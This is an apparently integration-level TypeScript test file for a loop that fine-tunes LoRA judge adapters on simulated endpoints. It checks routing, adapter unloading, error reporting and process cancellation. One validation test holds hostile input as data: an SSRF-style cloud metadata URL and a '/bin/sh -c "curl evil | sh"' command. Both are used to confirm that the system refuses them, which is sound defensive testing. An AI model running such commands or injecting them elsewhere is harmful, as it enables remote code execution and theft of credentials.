/**
 * The open-model loop, offline: two simulator processes (`npm run sim`'s entry point, each on a
 * free port with its own request log) as two named endpoints (the generator on one, the judges on
 * the other), the COMMAND backend running a test trainer (test/fixtures/trainer) that fine-tunes
 * on the judges' simulator and hands back an adapter, loaded there with load_lora_adapter and
 * unloaded once superseded. Three iterations run unattended; every request goes to its role's
 * endpoint, checked in each simulator's request log.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSimulatorProcess } from '../helpers/sim-process.js';
import type { SimulatorProcess } from '../helpers/sim-process.js';
import { dataOf, eventually, NO_DATABASE, startTestApp, TEST_DB } from '../helpers/app.js';
import type { TestApp } from '../helpers/app.js';

const INSTRUCTIONS = readFileSync('data/instructions/vicuna-bench-questions.jsonl', 'utf8').split('\n').slice(0, 16).join('\n');
const TRAINER = path.resolve('test/fixtures/trainer/sim-trainer.mjs');

type StageView = { id: string; kind: string; status: string; error: string | null; message: string | null; log: { stream: string; line: string }[] };
type IterationView = { id: string; index: number; judgeModel: string; trainedModel: string | null; status: string; stats: { judgments: number }; stages: StageView[] };
type ExperimentView = { loop: { status: string; error: string | null } | null; iterations: IterationView[] };

const EXPERIMENT = `query ($id: ID!) { experiment(id: $id) { loop { status error }
  iterations { id index judgeModel trainedModel status stats { judgments } stages { id kind status error message log(last: 30) { stream line } } } } }`;

/** True while the process runs: a zombie (ended, waiting for a parent that is gone to reap it) counts as ended. */
function alive(pid: number): boolean {
  try {
    return !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, 'utf8'));
  } catch {
    return false;
  }
}

describe.skipIf(NO_DATABASE)(`the open-model loop on two endpoints with a COMMAND trainer (${TEST_DB})`, () => {
  let gen: SimulatorProcess;
  let judges: SimulatorProcess;
  let app: TestApp;
  const dir = mkdtempSync(path.join(tmpdir(), 'ste-open-'));
  const pidFile = path.join(dir, 'pids.json');

  const trainer = (mode: string, extra: string[] = []) => ({
    type: 'COMMAND',
    hyperparameters: ['n_epochs'],
    command: [process.execPath, TRAINER, '--mode', mode, '--endpoint', judges.url, '--train', '{trainingFile}', '--output-dir', '{outputDir}',
      '--base-model', '{baseModel}', '--iteration', '{iteration}', '--hyperparameters', '{hyperparameters}', ...extra],
  });

  const experiment = async (name: string, training: Record<string, unknown>, instructions = INSTRUCTIONS) => {
    const id = dataOf(await app.gql<{ createExperiment: { id: string } }>(
      `mutation ($config: ExperimentConfigInput) { createExperiment(name: "${name}", config: $config) { id } }`,
      { config: { samplesPerOrder: 2, seed: 3, endpoints: { generator: 'gen', judge: 'judges', trained: 'judges' }, training } },
    )).createExperiment.id;
    dataOf(await app.gql('mutation ($id: ID!, $content: String!) { importInstructions(experimentId: $id, content: $content) { accepted } }', { id, content: instructions }));
    return id;
  };
  const view = async (id: string) => dataOf(await app.gql<{ experiment: ExperimentView }>(EXPERIMENT, { id })).experiment;

  beforeAll(async () => {
    [gen, judges] = await Promise.all([startSimulatorProcess(), startSimulatorProcess({ SIM_FINE_TUNE_MS: '50' })]);
    const file = path.join(dir, 'ste.json');
    writeFileSync(file, JSON.stringify({
      endpoints: { gen: { baseUrl: gen.url, concurrency: 16 }, judges: { baseUrl: judges.url, concurrency: 16, loraAdapters: true } },
      trainers: {
        'sim-adapter': trainer('adapter'),
        'sim-hang': trainer('hang', ['--pid-file', pidFile]),
        'sim-fail': trainer('fail'),
        'sim-adapter-plateau': trainer('adapter', ['--unlearned-from', '3']),
        // Adapters with the seed's weights: every iteration's judge errs as the seed does, so each has DPO pairs.
        'sim-adapter-stages': trainer('adapter', ['--method', '{method}', '--unlearned-from', '1']),
      },
    }));
    app = await startTestApp({ STE_CONFIG: file, TRAINING_DIR: path.join(dir, 'training') });
  }, 60_000);
  afterAll(async () => {
    await app?.stop();
    await gen?.stop();
    await judges?.stop();
  });

  it('runs three iterations unattended, each request on its role\'s endpoint, each judge an adapter loaded on the judges\' endpoint', async () => {
    const id = await experiment('open', { backend: 'COMMAND', trainer: 'sim-adapter', hyperparameters: { n_epochs: 2 } });
    dataOf(await app.gql('mutation ($id: ID!) { runLoop(experimentId: $id, iterations: 3) { id } }', { id }));
    const done = await eventually(async () => {
      const v = await view(id);
      return v.loop?.status === 'RUNNING' ? undefined : v;
    }, 240_000, 250);
    expect(done.loop).toEqual({ status: 'SUCCEEDED', error: null });
    expect(done.iterations.map((i) => i.status)).toEqual(['SUCCEEDED', 'SUCCEEDED', 'SUCCEEDED']);
    const [one, two, three] = done.iterations as [IterationView, IterationView, IterationView];
    expect(one.judgeModel).toBe('sim-judge');
    expect(one.trainedModel).toBe(`judge-it1-${one.id}`);
    expect(two.judgeModel).toBe(one.trainedModel);
    expect(three.judgeModel).toBe(two.trainedModel);
    expect(three.trainedModel).toBe(`judge-it3-${three.id}`);
    const train = one.stages.find((s) => s.kind === 'TRAIN')!;
    expect(train.message).toBe(`trained ${one.trainedModel}`);
    expect(train.log.map((l) => l.line)).toContain(`sim-trainer adapter iteration 1 base sim-judge hyperparameters {"n_epochs":2}`);

    // Generation only on `gen`, judging only on `judges` (each judgment the service stored came from
    // a request in the judges' log, by the judge of its iteration), nothing on the default endpoint.
    const [genStats, judgeStats] = await Promise.all([gen.stats(), judges.stats()]);
    const genLog = genStats.log;
    const judgeLog = judgeStats.log;
    expect(genStats.logDropped + judgeStats.logDropped).toBe(0);
    expect(genLog.filter((e) => e.kind === 'answer' && e.outcome === 'ok')).toHaveLength(16);
    expect(genLog.filter((e) => e.kind === 'modify' && e.outcome === 'ok')).toHaveLength(16);
    expect(new Set(genLog.map((e) => e.kind))).toEqual(new Set(['answer', 'modify']));
    expect(new Set(genLog.map((e) => e.model))).toEqual(new Set(['sim-generator']));
    expect(new Set(judgeLog.map((e) => e.kind))).toEqual(new Set(['judge']));
    for (const it of done.iterations) {
      const choices = judgeLog.filter((e) => e.model === it.judgeModel && e.outcome === 'ok').reduce((sum, e) => sum + e.choices, 0);
      expect(it.stats.judgments).toBeGreaterThan(0);
      expect(choices).toBe(it.stats.judgments);
    }
    expect(new Set(judgeLog.map((e) => e.model))).toEqual(new Set(['sim-judge', one.trainedModel, two.trainedModel]));
    expect(app.simulator!.stats().requests.total).toBe(0);
    expect(judgeStats.routes['POST /v1/load_lora_adapter']).toBe(3);
    expect(judgeStats.fineTuning.succeeded).toBe(3);
    expect(genStats.routes['POST /v1/load_lora_adapter']).toBeUndefined();
    // Superseded adapters are unloaded (no validation benchmarks, so no best judge to keep): the
    // judges of iterations 2 and 3 after the TRAIN stages of iterations 2 and 3; the newest stays.
    // (The unload after the last TRAIN runs when the stage ends, beside the loop's last step.)
    await eventually(async () => ((await judges.stats()).routes['POST /v1/unload_lora_adapter'] === 2 ? true : undefined), 30_000, 100);
    const served = await judges.models();
    expect(served).toContain(three.trainedModel);
    expect(served).not.toContain(one.trainedModel);
    expect(served).not.toContain(two.trainedModel);
    expect(genStats.routes['POST /v1/unload_lora_adapter']).toBeUndefined();
  }, 300_000);

  it('keeps the best judge\'s adapter loaded on the judges\' endpoint and unloads the superseded others', async () => {
    const benchmarkId = dataOf(await app.gql<{ importBenchmark: { benchmark: { id: string } } }>(
      'mutation ($c: String!) { importBenchmark(name: "natural", content: $c, format: LLMBAR, subset: "llmbar-natural") { benchmark { id } } }',
      { c: readFileSync('data/eval/llmbar/natural.json', 'utf8') },
    )).importBenchmark.benchmark.id;
    const unloadsBefore = (await judges.stats()).routes['POST /v1/unload_lora_adapter'] ?? 0;
    // The third trained judge learned nothing (the seed's weights): a trained judge before it is the best.
    const id = await experiment('best', { backend: 'COMMAND', trainer: 'sim-adapter-plateau' });
    dataOf(await app.gql('mutation ($id: ID!, $b: [ID!]) { runLoop(experimentId: $id, iterations: 3, evaluateOn: $b) { id } }', { id, b: [benchmarkId] }));
    const done = await eventually(async () => {
      const v = dataOf(await app.gql<{ experiment: { loop: { status: string; error: string | null }; iterations: { trainedModel: string }[]; bestIteration: { iteration: { index: number } | null; judgeModel: string } | null } }>(
        'query ($id: ID!) { experiment(id: $id) { loop { status error } iterations { trainedModel } bestIteration { iteration { index } judgeModel } } }', { id },
      )).experiment;
      return v.loop.status === 'RUNNING' ? undefined : v;
    }, 240_000, 250);
    expect(done.loop).toEqual({ status: 'SUCCEEDED', error: null });
    const adapters = done.iterations.map((i) => i.trainedModel);
    expect(adapters).toHaveLength(3);
    expect([1, 2]).toContain(done.bestIteration?.iteration?.index);
    const best = done.bestIteration!.judgeModel;
    // Loaded now: the newest judge and the best one; the third adapter is unloaded.
    const served = new Set(await judges.models());
    expect(adapters.filter((m) => served.has(m))).toEqual(adapters.filter((m) => m === best || m === adapters[2]));
    expect((await judges.stats()).routes['POST /v1/unload_lora_adapter']).toBe(unloadsBefore + 1);
  }, 300_000);

  it('runs [SUPERVISED, DPO] with the COMMAND trainer, loading only the DPO stage\'s adapter, which judges next and is unloaded once superseded', async () => {
    const before = (await judges.stats()).routes;
    const id = await experiment('stages', { backend: 'COMMAND', trainer: 'sim-adapter-stages', stages: ['SUPERVISED', 'DPO'] });
    dataOf(await app.gql('mutation ($id: ID!) { runLoop(experimentId: $id, iterations: 2) { id } }', { id }));
    type Job = { stageIndex: number; method: string; baseModel: string; status: string; fineTunedModel: string | null };
    const done = await eventually(async () => {
      const v = dataOf(await app.gql<{ experiment: { loop: { status: string; error: string | null }; iterations: { id: string; judgeModel: string; trainedModel: string | null; trainingJobs: Job[]; stages: StageView[] }[] } }>(
        `query ($id: ID!) { experiment(id: $id) { loop { status error } iterations { id judgeModel trainedModel
          trainingJobs { stageIndex method baseModel status fineTunedModel } stages { id kind status error message log(last: 30) { stream line } } } } }`, { id },
      )).experiment;
      return v.loop.status === 'RUNNING' ? undefined : v;
    }, 240_000, 250);
    expect(done.loop).toEqual({ status: 'SUCCEEDED', error: null });
    const [one, two] = done.iterations as [(typeof done.iterations)[number], (typeof done.iterations)[number]];
    const named = (it: { id: string }, n: number, method: string) => `judge-it${n}-${it.id}-${method}`;
    expect(one.trainingJobs).toEqual([
      { stageIndex: 0, method: 'SUPERVISED', baseModel: 'sim-judge', status: 'succeeded', fineTunedModel: named(one, 1, 'sft') },
      { stageIndex: 1, method: 'DPO', baseModel: named(one, 1, 'sft'), status: 'succeeded', fineTunedModel: named(one, 1, 'dpo') },
    ]);
    expect(one.trainedModel).toBe(named(one, 1, 'dpo'));
    expect(two.judgeModel).toBe(named(one, 1, 'dpo'));
    expect(two.trainedModel).toBe(named(two, 2, 'dpo'));
    const log = one.stages.find((s) => s.kind === 'TRAIN')!.log.map((l) => l.line);
    expect(log).toContain(`sim-trainer adapter iteration 1 base sim-judge hyperparameters {}`);
    expect(log).toContain(`sim-trainer adapter iteration 1 base ${named(one, 1, 'sft')} hyperparameters {}`);
    // The SFT adapters never took a slot on the server: two loads (each iteration's DPO adapter), and
    // one unload (iteration 1's, superseded by iteration 2's).
    await eventually(async () => (((await judges.stats()).routes['POST /v1/unload_lora_adapter'] ?? 0) === (before['POST /v1/unload_lora_adapter'] ?? 0) + 1 ? true : undefined), 30_000, 100);
    const routes = (await judges.stats()).routes;
    expect(routes['POST /v1/load_lora_adapter']).toBe((before['POST /v1/load_lora_adapter'] ?? 0) + 2);
    const served = await judges.models();
    expect(served).toContain(named(two, 2, 'dpo'));
    for (const gone of [named(one, 1, 'sft'), named(one, 1, 'dpo'), named(two, 2, 'sft')]) expect(served).not.toContain(gone);
  }, 300_000);

  it('refuses an experiment that names a URL, a path or a command instead of a configured name, with the field at fault', async () => {
    const refused = async (config: Record<string, unknown>) => {
      const response = await app.gql('mutation ($config: ExperimentConfigInput) { createExperiment(name: "x", config: $config) { id } }', { config });
      const error = response.errors?.[0];
      return { code: error?.extensions?.code, field: error?.extensions?.field, message: error?.message };
    };
    expect(await refused({ endpoints: { generator: 'http://169.254.169.254/v1' } })).toMatchObject({
      code: 'BAD_USER_INPUT',
      field: 'config.endpoints.generator',
      message: expect.stringContaining('unknown endpoint "http://169.254.169.254/v1" (a endpoint is named, never given as a URL, path or command'),
    });
    expect(await refused({ endpoints: { trained: 'nowhere' } })).toMatchObject({ field: 'config.endpoints.trained', message: expect.stringContaining('configured: default, gen, judges') });
    expect(await refused({ training: { backend: 'COMMAND', trainer: '/bin/sh -c "curl evil | sh"' } })).toMatchObject({ code: 'BAD_USER_INPUT', field: 'config.training.trainer' });
    expect(await refused({ training: { backend: 'COMMAND' } })).toMatchObject({ field: 'config.training.trainer', message: expect.stringContaining('configured: sim-adapter, sim-hang, sim-fail, sim-adapter-plateau, sim-adapter-stages') });
    expect(await refused({ training: { backend: 'OPENAI', trainer: 'sim-adapter' } })).toMatchObject({ field: 'config.training.trainer' });
    expect(await refused({ training: { backend: 'COMMAND', trainer: 'sim-adapter', hyperparameters: { learning_rate: 1e-6 } } })).toMatchObject({
      field: 'config.training.hyperparameters',
      message: 'config.training.hyperparameters: unknown key "learning_rate": the COMMAND backend (trainer sim-adapter) passes only n_epochs',
    });
    expect(await refused({ training: { hyperparameters: { epochs: 2 } } })).toMatchObject({
      field: 'config.training.hyperparameters',
      message: expect.stringContaining('unknown key "epochs": the OPENAI backend passes only n_epochs, batch_size, learning_rate_multiplier, beta'),
    });
    expect(await refused({ training: { backend: 'EXTERNAL', hyperparameters: { n_epochs: 2 } } })).toMatchObject({ field: 'config.training.hyperparameters' });
  });

  it('fails TRAIN with the trainer\'s exit code and last stderr lines', async () => {
    const id = await experiment('fail', { backend: 'COMMAND', trainer: 'sim-fail' }, INSTRUCTIONS.split('\n').slice(0, 4).join('\n'));
    dataOf(await app.gql('mutation ($id: ID!) { runLoop(experimentId: $id, iterations: 1) { id } }', { id }));
    const done = await eventually(async () => {
      const v = await view(id);
      return v.loop?.status === 'RUNNING' ? undefined : v;
    }, 120_000, 250);
    const train = done.iterations[0]!.stages.find((s) => s.kind === 'TRAIN')!;
    expect(train.status).toBe('FAILED');
    expect(train.error).toBe('training failed: trainer sim-fail exited with code 3; last stderr lines:\nCUDA out of memory (simulated)');
    expect(done.loop?.status).toBe('FAILED');
    expect(train.log).toContainEqual({ stream: 'stderr', line: 'CUDA out of memory (simulated)' });
  }, 150_000);

  it('kills the trainer\'s whole process group when its TRAIN stage is cancelled', async () => {
    const id = await experiment('hang', { backend: 'COMMAND', trainer: 'sim-hang' }, INSTRUCTIONS.split('\n').slice(0, 4).join('\n'));
    dataOf(await app.gql('mutation ($id: ID!) { runLoop(experimentId: $id, iterations: 1) { id } }', { id }));
    const train = await eventually(async () => {
      const stage = (await view(id)).iterations[0]?.stages.find((s) => s.kind === 'TRAIN');
      return stage && stage.log.some((l) => l.line === 'training step 1 of many') ? stage : undefined;
    }, 120_000, 250);
    const pids = JSON.parse(readFileSync(pidFile, 'utf8')) as { pid: number; grandchild: number };
    expect(alive(pids.pid)).toBe(true);
    expect(alive(pids.grandchild)).toBe(true);
    const cancelled = dataOf(await app.gql<{ cancelStage: { status: string } }>('mutation ($id: ID!) { cancelStage(stageId: $id) { status } }', { id: train.id }));
    expect(cancelled.cancelStage.status).toBe('CANCELLED');
    await eventually(async () => (!alive(pids.pid) && !alive(pids.grandchild) ? true : undefined), 30_000, 100);
    expect(alive(pids.grandchild)).toBe(false);
  }, 150_000);
});
